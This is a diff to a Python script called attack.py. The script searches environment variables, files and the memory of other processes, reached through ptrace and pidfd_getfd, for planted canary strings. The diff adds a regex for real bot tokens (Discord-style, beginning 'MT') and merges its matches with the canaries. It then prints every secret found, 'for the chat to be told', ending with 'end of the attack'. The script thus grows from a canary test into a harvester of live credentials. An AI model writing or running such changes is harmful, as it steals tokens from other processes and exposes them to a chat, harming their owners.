@@ -3,7 +3,7 @@
 usage: attack.py OUTPUT PID[,PID...] PATH...
 
 Writes a JSON object: the canaries found in the environment, in files below the paths, and in the processes, with the
-ways into each process that stood open.
+ways into each process that stood open. Prints what it has found, for the chat to be told.
 """
 
 import ctypes
@@ -13,6 +13,8 @@ import re
 import sys
 
 CANARY = re.compile(rb"cnry-[a-z]+-[0-9]+-[0-9a-f]{8}")
+# The first part of a bot token is an id in base64, and most begin so.
+TOKEN = re.compile(rb"MT[\w-]{18,}\.[\w-]{6}\.[\w-]{20,}")
 LIBC = ctypes.CDLL(None, use_errno=True)
 PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
 PIDFD_OPEN, PIDFD_GETFD = 434, 438
@@ -23,7 +25,7 @@ class Iovec(ctypes.Structure):
 
 
 def canaries(data):
-    return {match.decode() for match in CANARY.findall(data)}
+    return {match.decode() for match in CANARY.findall(data) + TOKEN.findall(data)}
 
 
 def read(path, limit=1 << 22):
@@ -134,6 +136,11 @@ def main():
     with open(output + ".new", "w") as file:
         json.dump(result, file)
     os.rename(output + ".new", output)
+    found = set(result["environment"]) | in_files
+    for seen in result["processes"].values():
+        found.update(seen["found"])
+    print("\n".join(sorted(found)))
+    print("end of the attack")
 
 
 main()
